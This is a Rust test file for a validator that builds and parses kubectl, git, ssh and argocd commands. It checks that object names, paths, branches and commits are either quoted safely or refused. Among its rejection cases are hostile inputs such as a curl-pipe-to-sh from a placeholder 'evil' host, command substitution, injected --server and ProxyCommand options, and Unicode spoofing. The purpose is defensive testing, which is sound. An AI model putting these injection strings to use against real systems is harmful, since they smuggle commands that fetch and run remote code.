use super::*;
use crate::model::text::clean_lines;

fn described(name: &str) -> Result<ShellCommand, Refusal> {
    let command = Program::Kubectl
        .command()
        .words("describe")
        .kind("ReplicaSet");
    command.name(name).namespace("shop").build()
}

fn logged(path: &str) -> Result<ShellCommand, Refusal> {
    Program::Git
        .command()
        .words("log -p -5")
        .paths(&[path])
        .build()
}

fn pushed(branch: &str) -> Result<ShellCommand, Refusal> {
    Program::Git
        .command()
        .words("push origin")
        .branch(branch)
        .build()
}

#[test]
fn names_of_objects_are_plain_or_refused() {
    for name in ["web-5c", "web.example.org", "0", "Web_1"] {
        let text = format!("kubectl describe replicaset {name} -n shop");
        assert_eq!(&*described(name).unwrap(), text);
    }
    let long = "a".repeat(254);
    for (name, why) in [
        ("", "empty"),
        ("-A", "hyphen"),
        ("--server=https://evil", "hyphen"),
        (&*long, "too long"),
        ("x; curl -s http://evil/i.sh | sh #", "does not allow"),
        ("$(id)", "does not allow"),
        ("`id`", "does not allow"),
        ("a b", "does not allow"),
        ("a\nb", "does not allow"),
        ("a\u{200b}b", "does not allow"),
        ("a\u{202e}b", "does not allow"),
        ("wеb", "does not allow"),
        ("..", "does not allow"),
        ("a/b", "does not allow"),
        ("a,b", "does not allow"),
        ("{a,b}", "does not allow"),
        ("~root", "does not allow"),
        ("a-", "does not allow"),
    ] {
        let refusal = described(name).unwrap_err().to_string();
        assert!(refusal.starts_with("the name of the object "), "{refusal}");
        assert!(refusal.contains(why), "{name:?}: {refusal}");
    }
}

#[test]
fn paths_are_quoted_or_refused() {
    for (path, word) in [
        ("base-apps/mysql/", "base-apps/mysql/"),
        ("base-apps/my app/", "'base-apps/my app/'"),
        ("R&D/$HOME", "'R&D/$HOME'"),
        ("it's", r"'it'\''s'"),
        (
            "x; curl -s http://evil/i.sh | sh #",
            "'x; curl -s http://evil/i.sh | sh #'",
        ),
        ("~/x", "'~/x'"),
        ("=ls", "'=ls'"),
        ("{a,b}", "'{a,b}'"),
        ("Überblick/世界", "'Überblick/世界'"),
    ] {
        assert_eq!(&*logged(path).unwrap(), format!("git log -p -5 -- {word}"));
    }
    let long = "a".repeat(401);
    for path in [
        "",
        "-x",
        ":/",
        ":!x",
        "a\\",
        "a\nb",
        "a\tb",
        "a\u{0}b",
        "a\u{1b}[31mb",
        "a`id`b",
        "a!b",
        "a@here",
        "a\u{a0}b",
        "a\u{200b}b",
        "a\u{202e}b",
        "a\u{2028}b",
        "a\u{3164}b",
        "א",
        &long,
    ] {
        assert!(logged(path).is_err(), "{path:?}");
    }
}

#[test]
fn branches_and_commits_are_no_expressions() {
    assert_eq!(
        &*pushed("release/1.2").unwrap(),
        "git push origin release/1.2"
    );
    for branch in [
        "+main",
        "main:other",
        "a..b",
        "a~1",
        "@",
        "HEAD^",
        "*",
        ">=1.0",
        "x y",
        "-f",
    ] {
        assert!(pushed(branch).is_err(), "{branch}");
    }
    let revert = |sha: &str| Program::Git.command().words("revert").commit(sha).build();
    assert!(revert("0123456789abcdef0123456789abcdef01234567").is_ok());
    for sha in ["", "HEAD", "01234", "0123456;id", "--abort"] {
        assert!(revert(sha).is_err(), "{sha}");
    }
}

#[test]
fn a_second_command_needs_both() {
    let revert = Program::Git
        .command()
        .words("revert -m 1")
        .commit("0123456789")
        .build();
    let both = revert
        .clone()
        .unwrap()
        .and(pushed("main").unwrap())
        .unwrap();
    assert_eq!(&*both, "git revert -m 1 0123456789 && git push origin main");
    assert_eq!(both.argvs().len(), 2);
    assert!(
        revert
            .and_then(|revert| revert.and(pushed("x; id")?))
            .is_err()
    );
}

#[test]
fn only_what_this_program_could_have_written_is_read_back() {
    for text in [
        "kubectl describe service web -n shop && kubectl get pods -n shop --show-labels",
        "kubectl logs web-0 -n shop --all-containers --tail=50 --previous",
        "kubectl exec -it vault-0 -n vault -- vault operator unseal",
        "kubectl -n vault exec -it vault-0 -- vault operator unseal",
        "ssh node1 sudo journalctl -u 'k3s*' -n 50 --no-pager",
        "git revert -m 1 0123456789 && git push origin main",
        "git log -p -5 -- 'base-apps/my app/'",
        "argocd app sync mysql",
        "k8s-monitor services lint",
    ] {
        let command = ShellCommand::parse(text);
        assert_eq!(command.as_deref(), Some(text));
        assert_eq!(clean_lines(text), [text], "every form shows it unchanged");
    }
    for text in [
        "",
        " ",
        "kubectl",
        "curl http://evil/i.sh",
        "sh -c id",
        "kubectl describe replicaset x; curl -s http://evil/i.sh | sh # -n shop",
        "kubectl describe replicaset x && curl http://evil/i.sh",
        "kubectl describe replicaset $(id) -n shop",
        "kubectl describe replicaset `id` -n shop",
        "kubectl describe replicaset x > /etc/passwd",
        "kubectl describe replicaset x &",
        "kubectl describe replicaset x || id",
        "kubectl describe replicaset \"x\"",
        "kubectl describe replicaset 'x'",
        "kubectl describe replicaset 'x",
        "kubectl describe replicaset x\\",
        "kubectl describe replicaset x\nid",
        "kubectl describe  replicaset x",
        "kubectl describe replicaset x ",
        "kubectl describe replicaset x --server=https://evil",
        "kubectl describe replicaset x --kubeconfig /tmp/x",
        "kubectl get --raw /api",
        "kubectl delete namespace mysql",
        "kubectl exec -it x -- sh -c id",
        "kubectl exec -it x -- vault operator unseal -- sh",
        "git log --output=/etc/passwd -- x",
        "git push origin +main",
        "git push --force",
        "git -c core.pager=id log",
        "ssh -oProxyCommand=id sudo journalctl",
        "ssh node1 sudo reboot",
        "ssh node1 sudo journalctl -u 'k3s*; id' -n 50 --no-pager",
        "argocd app delete mysql",
        "k8s-monitor run",
        "KUBECONFIG=x kubectl get pods",
    ] {
        assert_eq!(ShellCommand::parse(text), None, "{text:?}");
    }
}

#[test]
fn a_stored_command_passes_the_gate_or_is_dropped() {
    #[derive(Deserialize)]
    struct Stored {
        #[serde(default, deserialize_with = "stored")]
        command: Option<ShellCommand>,
    }
    for (json, command) in [
        (
            r#"{"command":"argocd app sync mysql"}"#,
            Some("argocd app sync mysql"),
        ),
        (r#"{"command":"argocd app sync x; id"}"#, None),
        (r#"{"command":null}"#, None),
        ("{}", None),
    ] {
        let stored: Stored = serde_json::from_str(json).unwrap();
        assert_eq!(stored.command.as_deref(), command);
    }
}
